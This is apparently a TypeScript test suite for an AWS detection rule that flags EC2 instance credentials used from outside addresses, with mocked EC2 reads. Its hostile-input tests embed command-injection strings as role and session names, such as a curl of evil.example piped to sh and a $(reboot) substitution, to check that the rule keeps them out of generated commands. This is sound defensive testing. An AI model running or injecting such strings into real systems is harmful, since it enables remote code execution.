import { DescribeInstancesCommand, DescribeNatGatewaysCommand, EC2Client, type Instance } from '@aws-sdk/client-ec2';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { instanceCredentialsOutside } from '../../../functions/instance-credentials-outside/rule.js';
import { matchesPattern } from '../../../shared/events/pattern.js';
import { toEnvelopeJson } from '../../../shared/events/schema.js';
import { run } from '../../../shared/runner/run.js';
import { capturingDeps, expectedOutcome, loadSample, sampleConfig, sampleNames, withDetail } from '../../helpers/samples.js';

const RULE = 'instance-credentials-outside';
const INSTANCE = 'i-0abc123def4567890';
const OUTSIDE = 'alerted.list-buckets-from-outside-address';

const ec2 = mockClient(EC2Client);
beforeEach(() => {
  ec2.reset();
  ec2.rejects(new Error('unexpected EC2 call'));
});
afterEach(() => ec2.reset());

/** The example instance: a public and an Elastic address, two private ones, an IPv6 address and a delegated IPv6 prefix. */
const INSTANCE_SHAPE: Instance = {
  InstanceId: INSTANCE,
  VpcId: 'vpc-0example00000001',
  PublicIpAddress: '192.0.2.10',
  PrivateIpAddress: '10.0.1.15',
  NetworkInterfaces: [
    {
      PrivateIpAddress: '10.0.1.15',
      Association: { PublicIp: '192.0.2.10' },
      PrivateIpAddresses: [
        { PrivateIpAddress: '10.0.1.15', Association: { PublicIp: '192.0.2.10' } },
        { PrivateIpAddress: '10.0.1.16', Association: { PublicIp: '192.0.2.11' } },
      ],
      Ipv6Addresses: [{ Ipv6Address: '2001:db8:1234:1a00::10' }],
      Ipv6Prefixes: [{ Ipv6Prefix: '2001:db8:1234:1a00:9::/80' }],
    },
  ],
};
const withInstance = (instance: Instance = INSTANCE_SHAPE) =>
  ec2.on(DescribeInstancesCommand, { InstanceIds: [INSTANCE] }).resolves({ Reservations: [{ Instances: [instance] }] });
const withNat = (...ips: string[]) =>
  ec2
    .on(DescribeNatGatewaysCommand, { Filter: [{ Name: 'vpc-id', Values: ['vpc-0example00000001'] }] })
    .resolves({ NatGateways: [{ NatGatewayId: 'nat-0example0000001', NatGatewayAddresses: ips.map((PublicIp) => ({ PublicIp, PrivateIp: '10.0.0.9' })) }] });
const from = (sourceIPAddress: string, sample = OUTSIDE) => withDetail(loadSample(RULE, sample), { sourceIPAddress });
const runLive = (event: unknown = loadSample(RULE, OUTSIDE)) => {
  const deps = capturingDeps({ mode: 'live' });
  return run(instanceCredentialsOutside, event, deps).then((record) => ({ record, deps }));
};

describe('instance-credentials-outside offline', () => {
  it.each(sampleNames(RULE))('decides the sample %s as its name says', async (name) => {
    const record = await run(instanceCredentialsOutside, loadSample(RULE, name), capturingDeps());
    expect(record.outcome).toBe(expectedOutcome(name));
    expect(ec2.calls()).toHaveLength(0);
  });

  it('says it cannot tell, LOW: no EC2 reads offline', async () => {
    const record = await run(instanceCredentialsOutside, loadSample(RULE, OUTSIDE), capturingDeps());
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'LOW', finding: 'instance-credentials-unchecked-offline' });
    expect(record.reason).toContain('cannot be told');
  });
});

describe('instance-credentials-outside with EC2 reads', () => {
  it('alerts HIGH on an address that is neither the instance nor its NAT, with the revoke command, never run', async () => {
    withInstance();
    withNat('198.51.100.20');
    const { record, deps } = await runLive();
    expect(record).toMatchObject({
      outcome: 'alerted',
      severity: 'HIGH',
      finding: 'instance-credentials-outside',
      resources: [{ type: 'AWS::IAM::Role', id: 'arn:aws:iam::111122223333:role/example-web' }],
      actions: [],
    });
    expect(record.reason).toContain(`s3:ListBuckets with the credentials of ${INSTANCE} (role example-web) from 203.0.113.77`);
    expect(ec2.commandCalls(DescribeNatGatewaysCommand)).toHaveLength(1);
    const text = deps.published[0]?.text ?? '';
    expect(text).toContain("aws iam put-role-policy --role-name 'example-web' --policy-name 'AWSRevokeOlderSessions'");
    expect(text).toContain('"aws:TokenIssueTime":"2026-11-25T11:58:00Z"');
    expect(text).toContain(`--instance-ids '${INSTANCE}' --region 'us-east-1'`);
  });

  it("is compliant on the instance's own public address, without reading NAT gateways", async () => {
    withInstance();
    const { record } = await runLive(loadSample(RULE, 'alerted.create-log-stream-from-instance-address'));
    expect(record).toMatchObject({ outcome: 'compliant' });
    expect(record.reason).toContain("one of the instance's own addresses");
    expect(ec2.commandCalls(DescribeInstancesCommand)).toHaveLength(1);
    expect(ec2.commandCalls(DescribeNatGatewaysCommand)).toHaveLength(0);
  });

  it('is compliant on a secondary Elastic address of the instance', async () => {
    withInstance();
    const { record } = await runLive(from('192.0.2.11'));
    expect(record.outcome).toBe('compliant');
  });

  it("is compliant on its VPC's NAT gateway address (an instance in a private subnet)", async () => {
    withInstance({ ...INSTANCE_SHAPE, PublicIpAddress: undefined, NetworkInterfaces: [{ PrivateIpAddress: '10.0.1.15' }] });
    withNat('198.51.100.20', '198.51.100.21');
    const { record } = await runLive(loadSample(RULE, 'alerted.create-tags-from-nat-gateway-address'));
    expect(record).toMatchObject({ outcome: 'compliant' });
    expect(record.reason).toContain('a NAT gateway of its VPC vpc-0example00000001');
  });

  it('is compliant inside a trusted egress range, and reads nothing', async () => {
    const { record } = await runLive(loadSample(RULE, 'compliant.from-trusted-egress-proxy'));
    expect(record).toMatchObject({ outcome: 'compliant' });
    expect(record.reason).toContain('inside the trusted egress range 198.51.100.128/25');
    expect(ec2.calls()).toHaveLength(0);
  });

  it("is compliant on the instance's IPv6 address and inside its delegated IPv6 prefix; another IPv6 address is HIGH, with no NAT read", async () => {
    withInstance();
    expect((await runLive(loadSample(RULE, 'alerted.get-caller-identity-over-ipv6'))).record.outcome).toBe('compliant');
    expect((await runLive(from('2001:db8:1234:1a00:9::42'))).record.outcome).toBe('compliant');
    const { record } = await runLive(from('2001:db8:ffff::1'));
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'HIGH', finding: 'instance-credentials-outside' });
    expect(ec2.commandCalls(DescribeNatGatewaysCommand)).toHaveLength(0);
  });

  it("is compliant on the instance's private address (an endpoint that logs no vpcEndpointId) and on a NAT gateway's private one; another private address is MEDIUM", async () => {
    withInstance();
    withNat('198.51.100.20');
    expect((await runLive(from('10.0.1.16'))).record.outcome).toBe('compliant');
    expect(ec2.commandCalls(DescribeNatGatewaysCommand)).toHaveLength(0);
    // A private NAT gateway (to a peered VPC or a transit gateway) translates to its private address.
    expect((await runLive(from('10.0.0.9'))).record.outcome).toBe('compliant');
    const { record } = await runLive(from('10.20.0.7'));
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'MEDIUM', finding: 'instance-credentials-private-elsewhere' });
    expect(record.reason).toContain('trustedEgressCidrs');
    expect(ec2.commandCalls(DescribeNatGatewaysCommand)).toHaveLength(2);
  });

  it.each([
    ['no reservation', () => ec2.on(DescribeInstancesCommand).resolves({ Reservations: [] })],
    [
      'InvalidInstanceID.NotFound',
      () => ec2.on(DescribeInstancesCommand).rejects(Object.assign(new Error('not found'), { name: 'InvalidInstanceID.NotFound' })),
    ],
  ])('says it cannot tell, MEDIUM, when the instance is not in the Region (%s)', async (_case, arrange) => {
    arrange();
    const { record, deps } = await runLive();
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'MEDIUM', finding: 'instance-not-found' });
    expect(record.reason).toContain(`no instance ${INSTANCE} in us-east-1`);
    expect(deps.published[0]?.text ?? '').toContain('--region <each-region>');
  });

  it('alerts MEDIUM naming the read when DescribeInstances is denied, and when the NAT gateways cannot be read', async () => {
    ec2.on(DescribeInstancesCommand).rejects(Object.assign(new Error('denied'), { name: 'UnauthorizedOperation' }));
    const denied = await runLive();
    expect(denied.record).toMatchObject({ outcome: 'alerted', severity: 'MEDIUM', finding: 'instance-addresses-unchecked' });
    expect(denied.record.reason).toContain('EC2.DescribeInstances was denied (UnauthorizedOperation)');
    ec2.reset();
    withInstance();
    ec2.on(DescribeNatGatewaysCommand).rejects(Object.assign(new Error('denied'), { name: 'UnauthorizedOperation' }));
    const natDenied = await runLive();
    expect(natDenied.record).toMatchObject({ severity: 'MEDIUM', finding: 'instance-addresses-unchecked' });
    expect(natDenied.record.reason).toContain('EC2.DescribeNatGateways was denied');
  });

  it('rethrows a throttled read, so the event is retried rather than judged', async () => {
    ec2.on(DescribeInstancesCommand).rejects(Object.assign(new Error('slow down'), { name: 'RequestLimitExceeded' }));
    const { record } = await runLive();
    expect(record).toMatchObject({ outcome: 'failed', error: { kind: 'transient' } });
  });

  it('judges a refused call from outside too: the probe is the signal', async () => {
    withInstance();
    withNat('198.51.100.20');
    const { record } = await runLive(withDetail(loadSample(RULE, OUTSIDE), { errorCode: 'AccessDenied', errorMessage: 'Access Denied' }));
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'HIGH', finding: 'instance-credentials-outside' });
    expect(record.reason).toContain('s3:ListBuckets, refused (AccessDenied)');
  });
});

describe('instance-credentials-outside on hostile or unreadable records', () => {
  it('never puts a hostile role name, session name or source into a command', async () => {
    const sample = loadSample(RULE, OUTSIDE) as { userIdentity: Record<string, unknown> };
    const hostile = structuredClone(sample);
    const role = "x';curl evil.example|sh;'";
    hostile.userIdentity.arn = `arn:aws:sts::111122223333:assumed-role/${role}/${INSTANCE}`;
    hostile.userIdentity.sessionContext = {
      ec2RoleDelivery: '2.0',
      sessionIssuer: { type: 'Role', arn: `arn:aws:iam::111122223333:role/${role}`, userName: role },
    };
    withInstance();
    withNat();
    const { record, deps } = await runLive(hostile);
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'HIGH' });
    const text = deps.published[0]?.text ?? '';
    expect(text).toContain('no command: the role name in the event is not a valid role name');
    expect(text).not.toContain('--role-name');
  });

  it('treats a session named with shell metacharacters or control characters as no instance, and reads nothing', async () => {
    const sample = loadSample(RULE, 'compliant.session-named-like-not-an-instance') as { userIdentity: Record<string, unknown> };
    const hostile = structuredClone(sample);
    hostile.userIdentity.arn = 'arn:aws:sts::111122223333:assumed-role/example-jobs/i-$(reboot)\u001b[2J';
    const { record } = await runLive(hostile);
    expect(record.outcome).toBe('compliant');
    expect(ec2.calls()).toHaveLength(0);
  });

  // The pattern takes only an IP address (EventBridge `cidr` over all of IPv4 and IPv6), so a hostname, an AWS service
  // name, an empty or absent source never reaches the rule; the runner applies the same pattern, so replay agrees.
  it.each([['proxy.example.com\u001b[31m'], [''], [null], ['AWS Internal'], ['ec2.amazonaws.com']])(
    'never judges a source that is no address (%j): ignored by the pattern, nothing read',
    async (sourceIPAddress) => {
      const { record } = await runLive(withDetail(loadSample(RULE, OUTSIDE), { sourceIPAddress }));
      expect(record.outcome).toBe('ignored');
      expect(ec2.calls()).toHaveLength(0);
    },
  );

  it('fails with a ParseError naming the field on EC2-delivered credentials whose session is no instance', async () => {
    const odd = structuredClone(loadSample(RULE, OUTSIDE)) as { userIdentity: Record<string, unknown> };
    odd.userIdentity.arn = 'arn:aws:sts::111122223333:assumed-role/example-web/build-42';
    const oddSession = await runLive(odd);
    expect(oddSession.record).toMatchObject({ outcome: 'failed', error: { kind: 'parse' } });
    expect(oddSession.record.error?.message).toContain('detail.userIdentity.arn');
    expect(ec2.calls()).toHaveLength(0);
  });
});

describe('instance-credentials-outside pattern', () => {
  const matches = (event: unknown) => matchesPattern(instanceCredentialsOutside.pattern, toEnvelopeJson(event));

  it('takes an outside read it names, and a write', () => {
    expect(matches(loadSample(RULE, OUTSIDE))).toBe(true);
    expect(matches(loadSample(RULE, 'alerted.create-tags-from-nat-gateway-address'))).toBe(true);
  });

  it.each([
    ['a service acting for the role', { sourceIPAddress: 'ec2.amazonaws.com' }],
    ['AWS Internal', { sourceIPAddress: 'AWS Internal' }],
    ['a China-partition service', { sourceIPAddress: 'ec2.amazonaws.com.cn' }],
    ['a call through a VPC endpoint', { vpcEndpointId: 'vpce-0example0000001' }],
    ['a read it does not name', { eventName: 'DescribeInstances', eventSource: 'ec2.amazonaws.com' }],
    ['the SSM agent heartbeat', { eventName: 'UpdateInstanceInformation', eventSource: 'ssm.amazonaws.com' }],
    ['a KMS decryption', { eventName: 'Decrypt', eventSource: 'kms.amazonaws.com' }],
  ])('does not take %s', (_case, patch) => {
    const event = withDetail(loadSample(RULE, OUTSIDE), patch);
    expect(matches(event)).toBe(false);
  });

  it('takes a session named like an instance without ec2RoleDelivery, and not an IAM user', () => {
    const named = structuredClone(loadSample(RULE, OUTSIDE)) as { userIdentity: { sessionContext: Record<string, unknown> } };
    delete named.userIdentity.sessionContext.ec2RoleDelivery;
    expect(matches(named)).toBe(true);
    const user = withDetail(loadSample(RULE, OUTSIDE), { userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/alice', userName: 'alice' } });
    expect(matches(user)).toBe(false);
  });

  it('reads the trusted egress ranges from the settings, and refuses one that is no CIDR', () => {
    expect(sampleConfig().rules[RULE].trustedEgressCidrs).toEqual(['198.51.100.128/25']);
    expect(() => sampleConfig({ rules: { [RULE]: { trustedEgressCidrs: ['198.51.100.0/33'] } } })).toThrow(/CIDR/);
  });
});
